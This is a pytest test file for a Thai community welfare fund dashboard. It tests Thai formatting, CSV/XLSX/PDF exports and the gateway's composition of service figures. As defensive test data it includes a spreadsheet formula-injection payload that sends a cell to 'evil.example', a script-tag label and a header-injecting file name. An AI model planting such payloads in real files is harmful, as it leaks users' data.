"""Dashboards (issue 8): Thai formatting, files (CSV, XLSX, PDF), the gateway's composition of the
services' figures, the web pages and their login, and the whole thing in headless Chromium.

The composition tests put the gateway in front of fake services on a real socket (so what the
gateway asks, with which token, and how it answers each reply is seen exactly); the services' own
new reads are tested on the real services; the Chromium test runs the real system with the demo
data loaded.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import re
import shutil
import uuid
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from aiohttp import web
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import text as sql_text

from gateway.dashboard import charts, pdf, tables, thai
from shared import figures
from shared.auth import Role, TokenVerifier
from tests.support.apps import ServicesWire, gateway_app
from tests.support.factories import make_books, make_fund, make_grantor, person
from tests.support.helpers import ADMIN_PASSWORD, ADMIN_PHONE, AUDIENCE, ISSUER, Tokens, free_port, serving
from tests.support.projection import canned_projection

RESULTS = Path(__file__).resolve().parents[2] / "bench-results"


# --- Thai formatting -----------------------------------------------------------------------------------


def test_money_dates_and_amounts_in_words_as_thai_readers_write_them() -> None:
    assert thai.baht(1_125_230_457) == "11,252,304.57"
    assert thai.baht(-5) == "-0.05"
    assert thai.baht(None) == "-", "an unknown figure is never shown as 0"
    assert thai.baht_plain(204_216_200) == "2042162.00"
    assert thai.baht_words(2_100) == "ยี่สิบเอ็ดบาทถ้วน"
    assert thai.baht_words(3_050) == "สามสิบบาทห้าสิบสตางค์"
    assert thai.baht_words(50) == "ห้าสิบสตางค์"
    assert thai.baht_words(100_000_100) == "หนึ่งล้านเอ็ดบาทถ้วน"
    assert thai.baht_words(131_217_500) == "หนึ่งล้านสามแสนหนึ่งหมื่นสองพันหนึ่งร้อยเจ็ดสิบห้าบาทถ้วน"
    assert thai.baht_words(1_100_000_000) == "สิบเอ็ดล้านบาทถ้วน"
    assert thai.thai_date(dt.date(2026, 11, 22)) == "22 พฤศจิกายน 2569"
    assert thai.thai_date(dt.date(2010, 5, 1), short=True) == "1 พ.ค. 2553"
    assert thai.month_label("2026-10") == "ต.ค. 69"
    assert thai.month_label("2026-10", short=False) == "ตุลาคม 2569"
    assert thai.month_label("2026-10", lang="en") == "Oct 2026"
    assert thai.months_between(dt.date(2025, 11, 30), dt.date(2026, 2, 1)) == ["2025-11", "2025-12", "2026-01", "2026-02"]
    assert figures.coverage_pct(4_118, 17_539) == 23.5
    assert figures.coverage_pct(1, 8) == 12.5 and figures.coverage_pct(1, 16) == 6.3, "half up, not to even"
    assert figures.coverage_pct(6_020, None) is None
    assert figures.share_pct(1, 3) == 33.33


def test_charts_are_inline_svg_that_escape_labels() -> None:
    svg = str(charts.bars([("<script>", 150_000), ("ผู้บริจาค & เครือข่าย", 50_000)], title="รายรับ"))
    assert svg.startswith("<svg") and "<script>" not in svg and "&lt;script&gt;" in svg and "&amp;" in svg
    assert svg.count("<rect") == 2
    columns = str(charts.columns([("ม.ค. 69", 0), ("ก.พ. 69", 12_300)], title="เงินสัจจะ"))
    assert columns.count("<rect") == 2 and "123.00" in columns
    assert "ไม่มีข้อมูล" in str(charts.bars([], title="สวัสดิการ"))


def test_tables_open_in_excel_with_thai_and_money_as_numbers() -> None:
    table = tables.Table(title="ตารางกองทุน", heading=["ตารางกองทุนสวัสดิการชุมชน"],
                         columns=[tables.Column("กองทุน"), tables.Column("เงินสะสม (บาท)", "money"), tables.Column("สมาชิก", "int"),
                                  tables.Column("% ตำบล", "pct")],
                         rows=[["ท่างาม", 1_125_230_457, 1_524, 36.0], ["หนองม่วง", None, 6_020, None]])
    csv_bytes = tables.to_csv(table)
    assert csv_bytes.startswith("\ufeff".encode()), "a BOM, so Excel reads UTF-8 Thai"
    lines = csv_bytes.decode("utf-8-sig").split("\r\n")
    assert lines[1:4] == ["กองทุน,เงินสะสม (บาท),สมาชิก,% ตำบล", "ท่างาม,11252304.57,1524,36.0", "หนองม่วง,,6020,"]
    sheet = load_workbook(io.BytesIO(tables.to_xlsx(table))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "ตารางกองทุนสวัสดิการชุมชน"
    assert rows[2][:3] == ("ท่างาม", 11252304.57, 1524) and rows[3][1] is None, "money is a number in the sheet"
    assert sheet.cell(row=3, column=2).number_format == "#,##0.00"
    disposition = tables.attachment("ตารางกองทุน.csv")["Content-Disposition"]
    assert disposition.startswith('attachment; filename="') and "filename*=UTF-8''%E0%B8%95" in disposition


# --- Text from data is never a formula (issue 19, point 5) --------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'


@pytest.mark.parametrize(
    ("text", "csv_cell", "xlsx_text"),
    [
        ("สมศรี", "สมศรี", "สมศรี"),
        (FORMULA, "'" + FORMULA, FORMULA),
        ("+66812345678", "'+66812345678", "+66812345678"),  # text, so quoted: OWASP's practice
        ("-", "'-", "-"),
        ("-5", "'-5", "-5"),  # a negative *text*; negative numbers are numbers (below)
        ("@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"),
        ("\t=1+1", "'\t=1+1", "\t=1+1"),
        ("\r=1+1", "'\r=1+1", "\r=1+1"),
        ("a=b", "a=b", "a=b"),
        (" =1+1", " =1+1", " =1+1"),
        ("", "", ""),
        ("ก\x07ข\x1b", "ก\ufffdข\ufffd", "ก\ufffdข\ufffd"),  # what XML cannot hold: U+FFFD, in both formats
        ("\x00=1", "\ufffd=1", "\ufffd=1"),
        ("=\x0b\x0c", "'=\ufffd\ufffd", "=\ufffd\ufffd"),
        ("\ud800ก\uffff", "\ufffdก\ufffd", "\ufffdก\ufffd"),  # lone surrogate, a non-character
        ("บรรทัด 1\nบรรทัด\t2\r", "บรรทัด 1\nบรรทัด\t2\r", "บรรทัด 1\nบรรทัด\t2\r"),  # XML holds these
        ("\x7f\x85", "\x7f\x85", "\x7f\x85"),
    ],
)
def test_a_text_cell_is_made_safe_in_one_place(text: str, csv_cell: str, xlsx_text: str) -> None:
    assert tables.safe_text(text, "csv") == csv_cell
    assert tables.safe_text(text, "xlsx") == xlsx_text


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_cells(body: bytes) -> list[list[Any]]:
    """The sheet's cells (openpyxl's), after checking that the file holds no formula at all."""
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", book.read(name)), f"a formula in {name}"
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [list(row) for row in sheet.iter_rows()]
    assert all(c.data_type != "f" for row in cells for c in row)
    return cells


def test_text_is_text_and_numbers_stay_numbers_in_both_files() -> None:
    table = tables.Table(title="รายการ", heading=[FORMULA, "กองทุน\x07บ้านส้อง"],
                         columns=[tables.Column("ชื่อ"), tables.Column("จำนวนเงิน (บาท)", "money"), tables.Column("ครั้ง", "int"),
                                  tables.Column("ร้อยละ", "pct"), tables.Column("หมายเหตุ")],
                         rows=[[FORMULA, -12_345, -3, -1.5, "-"], ["#N/A", 0, 0, 0.0, "\x1b[31m"], ["+1", None, None, None, -7]])
    rows = csv_rows(tables.to_csv(table))
    assert rows[:2] == [["'" + FORMULA], ["กองทุน\ufffdบ้านส้อง"]]
    assert rows[3:] == [["'" + FORMULA, "-123.45", "-3", "-1.5", "'-"], ["#N/A", "0.00", "0", "0.0", "\ufffd[31m"],
                        ["'+1", "", "", "", "-7"]], "negative numbers are numbers; text starting with - is quoted"
    cells = xlsx_cells(tables.to_xlsx(table))
    assert [(c.value, c.data_type) for c in cells[0][:1] + cells[1][:1]] == [(FORMULA, "s"), ("กองทุน\ufffdบ้านส้อง", "s")]
    assert [(c.value, c.data_type) for c in cells[3]] == [(FORMULA, "s"), (-123.45, "n"), (-3, "n"), (-1.5, "n"), ("-", "s")]
    assert [(c.value, c.data_type) for c in cells[4]] == [("#N/A", "s"), (0, "n"), (0, "n"), (0, "n"), ("\ufffd[31m", "s")]
    assert [(c.value, c.data_type) for c in cells[5]] == [("+1", "s"), (None, "n"), (None, "n"), (None, "n"), (-7, "n")]
    assert cells[3][0].quotePrefix and cells[0][0].quotePrefix and not cells[4][0].quotePrefix, "editing keeps it text"
    assert cells[3][1].number_format == "#,##0.00"


def test_a_download_name_carries_no_control_character() -> None:
    disposition = tables.attachment('ทะเบียนสมาชิก-กองทุน\x07\r\nX-Evil: 1"\\.csv')["Content-Disposition"]
    assert not re.search(r"[\x00-\x1f\x7f]", disposition)
    assert disposition.startswith('attachment; filename="') and disposition.count('"') == 2
    assert "%07" not in disposition and "%0D%0A" not in disposition


# --- PDFs ----------------------------------------------------------------------------------------------------

needs_thai_font = pytest.mark.skipif(
    pdf.find_thai_font() is None,
    reason="no Thai TrueType font (make test installs fonts-tlwg-laksaman-ttf as root on Debian; "
           "or set SAJJA_GATEWAY_THAI_FONT)")

FUND = {"id": str(uuid.uuid4()), "name": "กองทุนสวัสดิการชุมชนตำบลบ้านส้อง", "subdistrict": "บ้านส้อง", "district": "เวียงสระ",
        "province": "สุราษฎร์ธานี"}


def pdf_text(body: bytes) -> str:
    """The text a reader copies out. Shaping draws ำ as two glyphs; the second comes back as a
    control character, dropped here."""
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)
    return re.sub(r"[\x00-\x09\x0b-\x1f]", "", text)


def embedded_fonts(body: bytes) -> set[str]:
    fonts = set()
    for page in PdfReader(io.BytesIO(body)).pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            descriptor = font["/DescendantFonts"][0].get_object()["/FontDescriptor"].get_object()
            if "/FontFile2" in descriptor:
                fonts.add(str(font["/BaseFont"]))
    return fonts


@needs_thai_font
def test_a_receipt_is_a_thai_pdf_with_the_font_embedded() -> None:
    deposit = {"id": str(uuid.uuid4()), "receipt_no": 4711, "amount_satang": 3_050, "member_id": "m", "collector_id": "c",
               "collected_at": "2026-10-05T10:15:00+00:00", "posted_at": "2026-10-05T10:16:00+00:00"}
    member = {"title": "นาง", "first_name": "สมศรี", "last_name": "ใจดี", "member_no": 12}
    body = pdf.receipt_pdf(fund=FUND, deposit=deposit, member=member, collector_name="อาสาสมัคร หมู่ 1")
    assert body.startswith(b"%PDF-")
    text = pdf_text(body)
    for expected in ("ใบเสร็จรับเงินสัจจะ", "เลขที่ใบเสร็จ 4711", "จำนวนเงิน 30.50 บาท", "(สามสิบบาทห้าสิบสตางค์)",
                     "5 ตุลาคม 2569 17:15 น.", "นาง สมศรี ใจดี (สมาชิกเลขที่ 12)", "ผู้รับเงิน อาสาสมัคร หมู่ 1", FUND["name"]):
        assert expected in text, expected
    fonts = embedded_fonts(body)
    assert fonts and all(re.search(r"Laksaman|Garuda|Loma", f) for f in fonts), fonts


@needs_thai_font
def test_the_monthly_report_carries_the_committees_figures() -> None:
    figures = {
        "fund": FUND, "founded_year_be": 2553, "accumulated_satang": 1_432_828_076,
        "holdings": {"fund_cash_satang": 0, "bank_satang": 1_432_800_000, "collectors_cash_satang": 28_076},
        "members": {"active": 4_118, "total": 4_118, "population": 17_539, "coverage_pct": 23.5},
        "arrears": {"members": 1_527, "amount_satang": 12_345_600},
        "income_by_source": {"total_satang": 150_000, "sources": [
            {"label": "เงินสัจจะสมาชิก", "amount_satang": 100_000, "share_pct": 66.67},
            {"label": "รัฐ (พอช.)", "amount_satang": 50_000, "share_pct": 33.33}]},
        "deposits_by_month": {"deposits": 700, "amount_satang": 100_000},
        "benefits_paid": {"total_satang": 30_000, "claims": 1,
                          "by_category": [{"label": "ผู้สูงอายุ", "claims": 1, "amount_satang": 30_000}]},
        "pending_claims": {"claims": 2, "by_status": [{"label": "อยู่ระหว่างพิจารณา", "claims": 2, "oldest_days": 9}]},
        "grants": {"awarded": 1, "awarded_satang": 5_500_000, "received_satang": 3_000_000, "in_transit_satang": 0},
    }
    months = [{"label": name, "amount_satang": 10_000 * (i + 1)} for i, name in enumerate(thai.MONTHS_SHORT[:10])]
    text = pdf_text(pdf.monthly_report_pdf(month="2026-10", figures=figures, year_months=months))
    for expected in ("รายงานประจำเดือนตุลาคม 2569 สำหรับการประชุมคณะกรรมการ", "14,328,280.76 บาท", "4,118 คน", "23.5 %",
                     "1,527 คน", "เงินสัจจะสมาชิก", "1,000.00", "66.67", "ผู้สูงอายุ", "300.00", "55,000.00 บาท",
                     "30,000.00 บาท", "ประธานกรรมการ"):
        assert expected in text, expected


# --- The services' new reads, on the real services -----------------------------------------------------------


async def test_holdings_are_null_until_the_books_have_an_entry_and_reading_creates_nothing(service_client, tokens) -> None:
    books = await make_books(service_client, tokens)
    first = (await books.get("/reports/holdings")).json()
    assert first["has_books"] is False and first["accumulated_satang"] is None
    again = (await books.get("/reports/holdings")).json()
    assert again["has_books"] is False, "reading the holdings opened no books"
    await books.post("/co-funding", {"id": str(uuid.uuid4()), "source": "codi", "amount_satang": 500_000,
                                     "received_on": "2026-01-15", "into": "bank"})
    await books.post("/deposits", books.deposit(amount=3_000, collector_id=books.collector))
    await books.post("/co-funding", {"id": str(uuid.uuid4()), "source": "donors", "amount_satang": 20_000,
                                     "received_on": "2026-01-16", "into": "fund_cash"})
    held = (await books.get("/reports/holdings")).json()
    assert held == {"fund_id": books.id, "has_books": True, "fund_cash_satang": 20_000, "bank_satang": 500_000,
                    "collectors_cash_satang": 3_000, "grants_receivable_satang": 0, "accumulated_satang": 523_000}
    network_officer = tokens.headers(Role.network_officer, network_id=uuid.uuid4())
    assert (await books.get("/reports/holdings", headers=network_officer)).status_code == 403
    assert (await books.get("/reports/holdings", headers=books.collector_headers)).status_code == 403


async def test_deposits_by_month_count_and_sum_by_bangkok_date(service_client, tokens) -> None:
    books = await make_books(service_client, tokens)
    await books.ledger.patch(f"{books.base}/rules", json={"late_window_days": 3650}, headers=books.admin)
    bangkok = dt.timezone(dt.timedelta(hours=7))
    for at, amount in ((dt.datetime(2026, 1, 31, 23, 30, tzinfo=bangkok), 100), (dt.datetime(2026, 1, 31, 17, 30, tzinfo=dt.UTC), 200),
                       (dt.datetime(2026, 3, 2, 8, 0, tzinfo=bangkok), 500)):
        posted = await books.post("/deposits", books.deposit(amount=amount, at=at, collector_id=books.collector))
        assert posted.status_code == 201, posted.text
    report = (await books.get("/reports/deposits-by-month", **{"from": "2026-01-01", "to": "2026-12-31"})).json()
    assert report["months"] == [{"month": "2026-01", "deposits": 1, "amount_satang": 100},
                                {"month": "2026-02", "deposits": 1, "amount_satang": 200},
                                {"month": "2026-03", "deposits": 1, "amount_satang": 500}]
    assert (report["from"], report["deposits"], report["amount_satang"]) == ("2026-01-01", 3, 800)
    backwards = await books.get("/reports/deposits-by-month", **{"from": "2026-12-31", "to": "2026-01-01"})
    assert backwards.status_code == 422


async def test_benefit_reports_take_a_period_and_a_networks_officer(service_client, tokens) -> None:
    members = await service_client("members")
    benefits = await service_client("benefits")
    network = (await members.post("/v1/members/networks", headers=tokens.headers(),
                                  json={"name_th": "เครือข่ายสุราษฎร์ธานี", "province": "สุราษฎร์ธานี"})).json()
    fund = await make_fund(members, tokens, network_id=network["id"])
    base = f"/v1/benefits/funds/{fund.id}/reports"
    officer = tokens.headers(Role.network_officer, network_id=network["id"])
    stranger = tokens.headers(Role.network_officer, network_id=uuid.uuid4())
    assert (await benefits.get(f"{base}/pending", headers=officer)).status_code == 200
    assert (await benefits.get(f"{base}/pending", headers=stranger)).status_code == 403
    assert (await benefits.get(f"{base}/paid", params={"from": "2026-01-01", "to": "2026-03-31"}, headers=officer)).json()["claims"] == 0
    assert (await benefits.get(f"{base}/paid", params={"year": 2026}, headers=stranger)).status_code == 403
    assert (await benefits.get(f"{base}/paid", params={"from": "2026-03-01"}, headers=fund.committee)).status_code == 422
    assert (await benefits.get(f"{base}/paid", headers=fund.committee)).json()["code"] == "report.period_required"
    member = tokens.headers(Role.member, fund_id=fund.id, member_id=uuid.uuid4())
    assert (await benefits.get(f"{base}/pending", headers=member)).status_code == 403


async def test_a_funds_grants_across_programs(service_client, tokens) -> None:
    members = await service_client("members")
    grants = await service_client("grants")
    await service_client("ledger")
    fund = await make_fund(members, tokens)
    grantor = await make_grantor(grants, tokens)
    officer = tokens.headers(Role.grant_officer, grantor_id=grantor)
    program = (await grants.post("/v1/grants/programs", headers=officer, json={
        "grantor": "codi", "name": "พื้นที่เป้าหมาย 2551", "fiscal_year_be": 2551, "envelope_satang": 530_467_200,
        "per_fund_ceiling_satang": 5_500_000})).json()
    committee = fund.as_(Role.committee)
    app = (await grants.post(f"/v1/grants/programs/{program['id']}/applications", headers=committee, json={
        "fund_id": fund.id, "title": "สนับสนุนกองทุน", "budget_lines": [
            {"line": "a", "description": "สวัสดิการ", "amount_satang": 5_500_000}]})).json()
    summary = f"/v1/grants/funds/{fund.id}/summary"
    assert (await grants.get(summary, headers=committee)).json()["applications"] == 0, "a draft is not counted"
    await grants.post(f"/v1/grants/applications/{app['id']}/submit", headers=committee)
    for reviewer in ("r1", "r2"):
        await grants.post(f"/v1/grants/applications/{app['id']}/reviews", headers=tokens.headers(Role.grant_officer, sub=reviewer, grantor_id=grantor),
                          json={"score": 80, "recommendation": "approve"})
    decided = (await grants.post(f"/v1/grants/applications/{app['id']}/decision", headers=officer, json={
        "decision": "approve", "tranches": [{"amount_satang": 3_000_000, "due_on": "2026-01-01"},
                                            {"amount_satang": 2_500_000, "due_on": "2026-06-01"}]})).json()
    await grants.post(f"/v1/grants/applications/{app['id']}/tranches/{decided['tranches'][0]['id']}/disbursement",
                      headers=officer, json={"disbursed_on": "2026-01-05", "reference": "T-1"})
    got = (await grants.get(summary, headers=committee)).json()
    assert got == {"fund_id": fund.id, "applications": 1, "by_status": {"awarded": 1}, "requested_satang": 5_500_000,
                   "awarded": 1, "awarded_satang": 5_500_000, "disbursed_satang": 3_000_000, "received_satang": 0,
                   "in_transit_satang": 3_000_000}
    assert (await grants.get(summary, headers=tokens.headers(Role.committee, fund_id=uuid.uuid4()))).status_code == 403
    assert (await grants.get(summary, headers=tokens.headers(Role.network_officer, network_id=uuid.uuid4()))).status_code == 403
    assert (await grants.get(summary, headers=officer)).status_code == 200


# --- The gateway's composition, against fake services on a real socket ----------------------------------------

FUND_A, FUND_B = str(uuid.uuid4()), str(uuid.uuid4())
NETWORK = str(uuid.uuid4())


class FakeServices:
    """Members, ledger, benefits and grants as the dashboard reads them, on one socket. Records
    each call's path and token, and how many were in flight at once."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str]] = []
        self.in_flight = 0
        self.most_in_flight = 0
        self.refuse: dict[str, tuple[int, bytes]] = {}
        #: The query of each projection asked, and paths whose connection is dropped unanswered.
        self.projections: list[dict[str, str]] = []
        self.drop: set[str] = set()
        self.query_strings: list[str] = []
        self.funds = {
            FUND_A: {"id": FUND_A, "network_id": NETWORK, "name": "กองทุนสวัสดิการชุมชนตำบลบ้านส้อง", "name_en": None,
                     "kind": "tambon", "province": "สุราษฎร์ธานี", "district": "เวียงสระ", "subdistrict": "บ้านส้อง",
                     "province_code": None, "district_code": None, "subdistrict_code": None, "founded_on": "2010-05-01",
                     "founded_year_be": 2553, "population": 17_539, "status": "active"},
            FUND_B: {"id": FUND_B, "network_id": None, "name": "กองทุนสวัสดิการชุมชนตำบลหนองม่วง", "name_en": None,
                     "kind": "tambon", "province": "สระแก้ว", "district": "ไม่ระบุ", "subdistrict": "หนองม่วง",
                     "province_code": None, "district_code": None, "subdistrict_code": None, "founded_on": "2008-01-01",
                     "founded_year_be": 2551, "population": None, "status": "active"},
        }
        self.app = web.Application()
        self.app.router.add_get("/{tail:.*}", self.handle)
        self.app.router.add_post("/{tail:.*}", self.handle)

    def aggregate(self, path: str, body: dict[str, Any]) -> Any:
        """What the services' aggregates answer: the per-fund figures below, summed over the funds
        named (every fund when none are)."""
        ids = body["fund_ids"] if body["fund_ids"] is not None else list(self.funds)
        period = {"from": body.get("from") or "2026-01-01", "to": body.get("to") or "2026-12-31"}
        each = {f: {tail: self.answer(f"/v1/x/funds/{f}/{tail}", period) for tail in (
            "reports/holdings", "reports/sources", "reports/deposits-by-month", "arrears", "reports/paid",
            "reports/pending")} for f in ids}
        if path == "/v1/ledger/aggregates":
            sources: dict[str, int] = {}
            months: dict[str, list[int]] = {}
            for figures_of in each.values():
                for x in figures_of["reports/sources"]["sources"]:
                    sources[x["source"]] = sources.get(x["source"], 0) + x["amount_satang"]
                for m in figures_of["reports/deposits-by-month"]["months"]:
                    line = months.setdefault(m["month"], [0, 0])
                    line[0] += m["deposits"]
                    line[1] += m["amount_satang"]
            arrears = [i["arrears_satang"] for x in each.values() for i in x["arrears"]["items"]]
            total = sum(sources.values())
            return {"as_of": "2026-03-31T00:00:00+00:00",
                    "funds": [{"fund_id": f, "has_books": x["reports/holdings"]["has_books"],
                               "accumulated_satang": x["reports/holdings"]["accumulated_satang"],
                               "arrears_members": len(x["arrears"]["items"]),
                               "arrears_satang": sum(i["arrears_satang"] for i in x["arrears"]["items"])} for f, x in each.items()],
                    "income_by_source": {"total_satang": total, "sources": [
                        {"source": k, "amount_satang": v, "share_pct": round(100 * v / total, 2)} for k, v in
                        sorted(sources.items(), key=lambda kv: -kv[1])]},
                    "deposits_by_month": {"deposits": sum(n for n, _ in months.values()), "amount_satang": sum(a for _, a in months.values()),
                                          "months": [{"month": m, "deposits": n, "amount_satang": a} for m, (n, a) in sorted(months.items())]},
                    "arrears": {"members": len(arrears), "amount_satang": sum(arrears), "funds_with_plans": len(ids),
                                "funds_counted": len(ids), "funds_stale": 0, "counted_since": "2026-03-31T00:00:00+00:00"}}
        if path == "/v1/benefits/aggregates":
            categories: dict[str, list[int]] = {}
            pending: dict[str, list[int]] = {}
            for x in each.values():
                for c in x["reports/paid"]["by_category"]:
                    line = categories.setdefault(c["key"], [0, 0])
                    line[0] += c["claims"]
                    line[1] += c["amount_satang"]
                for p in x["reports/pending"]["lines"]:
                    line = pending.setdefault(p["status"], [0, 0])
                    line[0] += p["claims"]
                    line[1] = max(line[1], p["oldest_days"])
            return {"as_of": "2026-03-31T00:00:00+07:00",
                    "paid": {"total_satang": sum(a for _, a in categories.values()), "claims": sum(n for n, _ in categories.values()),
                             "members_helped": sum(x["reports/paid"]["members_helped"] for x in each.values()),
                             "by_category": [{"key": k, "claims": n, "amount_satang": a} for k, (n, a) in sorted(categories.items())]},
                    "pending": [{"status": k, "claims": n, "oldest_days": d} for k, (n, d) in sorted(pending.items())]}
        if path == "/v1/grants/aggregates":
            summaries = [self.answer(f"/v1/grants/funds/{f}/summary", {}) for f in ids]
            keys = ("applications", "awarded", "requested_satang", "awarded_satang", "disbursed_satang", "received_satang",
                    "in_transit_satang")
            return {"funds_with_applications": sum(1 for x in summaries if x["applications"]),
                    **{k: sum(x[k] for x in summaries) for k in keys}, "as_of": "2026-03-31T00:00:00+00:00"}
        return None

    def answer(self, path: str, query: dict[str, str]) -> Any:
        parts = path.strip("/").split("/")
        if path == "/v1/members/funds":
            return {"items": list(self.funds.values()), "next_cursor": None}
        if path == "/v1/members/funds-overview":
            funds = [f for f in self.funds.values() if query.get("province") in (None, f["province"])
                     and query.get("network_id") in (None, f["network_id"])]
            return {"as_of": "2026-03-31T00:00:00+00:00", "funds": [
                {**f, "members_active": 4_118 if f["id"] == FUND_A else 6_020,
                 "members_total": 4_120 if f["id"] == FUND_A else 6_022,
                 "coverage_pct": 23.5 if f["id"] == FUND_A else None} for f in funds]}
        fund_id = parts[3]
        a = fund_id == FUND_A
        tail = "/".join(parts[4:])
        if path.startswith("/v1/members/"):
            if tail == "":
                return self.funds[fund_id]
            if tail == "summary":
                active = 4_118 if a else 6_020
                return {"fund_id": fund_id, "founded_year_be": self.funds[fund_id]["founded_year_be"], "members_total": active + 2,
                        "members_active": active, "population": 17_539 if a else None, "coverage_pct": 23.5 if a else None}
            if tail == "members":
                start = int(query.get("cursor") or 0)
                items = [{"id": str(uuid.UUID(int=start + i)), "member_no": start + i + 1, "national_id_masked": "x-xxxx-xxxxx-12-3",
                          "title": "นาง", "first_name": f"สมศรี{start + i}", "last_name": "ใจดี", "sex": "female", "phone": None,
                          "village": 3, "house_no": "1", "status": "active"} for i in range(min(500, 700 - start))]
                return {"items": items, "next_cursor": str(start + 500) if start + 500 < 700 else None}
        if tail == "reports/holdings":
            return {"fund_id": fund_id, "has_books": a, "fund_cash_satang": 1_000 if a else 0, "bank_satang": 1_432_000_000 if a else 0,
                    "collectors_cash_satang": 827_076 if a else 0, "grants_receivable_satang": 0,
                    "accumulated_satang": 1_432_828_076 if a else None}
        if tail == "reports/sources":
            sources = [{"source": "members", "amount_satang": 131_217_500, "share_pct": 70.0},
                       {"source": "codi", "amount_satang": 100_838_400, "share_pct": 30.0}] if a else []
            return {"fund_id": fund_id, "from": query["from"], "to": query["to"],
                    "total_satang": sum(s["amount_satang"] for s in sources), "sources": sources}
        if tail == "reports/deposits-by-month":
            months = [{"month": "2026-02", "deposits": 30, "amount_satang": 3_000}] if a else []
            return {"fund_id": fund_id, "from": query["from"], "to": query["to"], "months": months,
                    "deposits": 30 if a else 0, "amount_satang": 3_000 if a else 0}
        if tail == "arrears":
            items = [{"arrears_satang": 9_000}, {"arrears_satang": 3_000}] if a else []
            return {"as_of": "2026-03-31", "items": items}
        if tail == "reports/paid":
            lines = [{"key": "elderly", "claims": 2, "amount_satang": 60_000}] if a else []
            return {"fund_id": fund_id, "year": 2026, "year_be": 2569, "total_satang": 60_000 if a else 0, "claims": 2 if a else 0,
                    "members_helped": 2 if a else 0, "by_category": lines, "by_month": []}
        if tail == "reports/pending":
            lines = [{"status": "submitted", "claims": 1, "oldest_days": 3, "median_days": 3, "over_7_days": 0, "over_30_days": 0},
                     {"status": "payout_held", "claims": 1, "oldest_days": 12, "median_days": 12, "over_7_days": 1, "over_30_days": 0}]
            return {"fund_id": fund_id, "as_of": "2026-03-31T00:00:00+07:00", "lines": lines if a else lines[:1]}
        if tail == "projection" and path.startswith("/v1/benefits/"):
            self.projections.append(query)
            return canned_projection(fund_id)
        if tail == "summary" and path.startswith("/v1/grants/"):
            return {"fund_id": fund_id, "applications": 2 if a else 0, "by_status": {}, "requested_satang": 0, "awarded": 1 if a else 0,
                    "awarded_satang": 5_500_000 if a else 0, "disbursed_satang": 3_000_000 if a else 0,
                    "received_satang": 3_000_000 if a else 0, "in_transit_satang": 0}
        return None

    async def handle(self, request: web.Request) -> web.Response:
        self.seen.append((request.path, request.headers.get("Authorization", "")))
        self.query_strings.append(request.query_string)
        self.in_flight += 1
        self.most_in_flight = max(self.most_in_flight, self.in_flight)
        try:
            await asyncio.sleep(0.02)
            if any(request.path.endswith(suffix) for suffix in self.drop):
                assert request.transport is not None
                request.transport.close()  # as a process that dies mid-request
                return web.Response(status=500)
            for suffix, (status, body) in self.refuse.items():
                if request.path.endswith(suffix):
                    return web.Response(status=status, body=body, content_type="application/problem+json")
            if request.method == "POST":
                body = self.aggregate(request.path, await request.json())
            else:
                body = self.answer(request.path, dict(request.query))
            if body is None:
                return web.json_response({"code": "request.not_found"}, status=404, content_type="application/problem+json")
            return web.json_response(body)
        finally:
            self.in_flight -= 1


@pytest.fixture
async def composed(engines) -> AsyncIterator[tuple[httpx.AsyncClient, Tokens, FakeServices]]:
    fake = FakeServices()
    async with serving(fake.app) as url, gateway_app(
        engines["gateway"], members_url=url, ledger_url=url, benefits_url=url, grants_url=url
    ) as (app, client):
        keyring = app.state.keyring
        yield client, Tokens(pem=keyring._current_pem, kid=keyring.current_kid, jwks=keyring.jwks()), fake


async def test_a_funds_dashboard_is_composed_in_one_call_with_the_callers_token(composed) -> None:
    client, tokens, fake = composed
    headers = tokens.headers(Role.committee, fund_id=FUND_A)
    answer = await client.get(f"/v1/dashboard/funds/{FUND_A}", params={"from": "2026-01-01", "to": "2026-03-31"}, headers=headers)
    assert answer.status_code == 200, answer.text
    f = answer.json()
    assert f["fund"]["name"] == "กองทุนสวัสดิการชุมชนตำบลบ้านส้อง" and f["founded_year_be"] == 2553
    assert f["accumulated_satang"] == 1_432_828_076
    assert f["holdings"] == {"fund_cash_satang": 1_000, "bank_satang": 1_432_000_000, "collectors_cash_satang": 827_076}
    assert f["members"] == {"active": 4_118, "total": 4_120, "population": 17_539, "coverage_pct": 23.5}
    assert [(s["source"], s["label"], s["amount_satang"]) for s in f["income_by_source"]["sources"]] == [
        ("members", "เงินสัจจะสมาชิก", 131_217_500), ("codi", "รัฐ (พอช.)", 100_838_400)]
    assert [(m["month"], m["label"], m["amount_satang"]) for m in f["deposits_by_month"]["months"]] == [
        ("2026-01", "ม.ค. 69", 0), ("2026-02", "ก.พ. 69", 3_000), ("2026-03", "มี.ค. 69", 0)], "every month, empty ones too"
    assert f["benefits_paid"]["by_category"] == [{"category": "elderly", "label": "ผู้สูงอายุ", "claims": 2, "amount_satang": 60_000}]
    assert f["arrears"]["members"] == 2 and f["arrears"]["amount_satang"] == 12_000
    assert f["pending_claims"]["claims"] == 2
    assert (f["grants"]["awarded_satang"], f["grants"]["received_satang"]) == (5_500_000, 3_000_000)
    assert f["period"] == {"from": "2026-01-01", "to": "2026-03-31", "label": "1 มกราคม 2569 - 31 มีนาคม 2569"}
    asked = {path: token for path, token in fake.seen}
    assert len(fake.seen) == 9 and set(asked.values()) == {headers["Authorization"]}, "each service sees the caller's own token"
    assert any("/v1/ledger/" in p for p in asked) and any("/v1/benefits/" in p for p in asked) and any("/v1/grants/" in p for p in asked)
    assert fake.most_in_flight >= 4, "the services are asked at once, not one after another"
    english = (await client.get(f"/v1/dashboard/funds/{FUND_A}", headers={**headers, "Accept-Language": "en"})).json()
    assert english["income_by_source"]["sources"][0]["label"] == "Members' contributions"


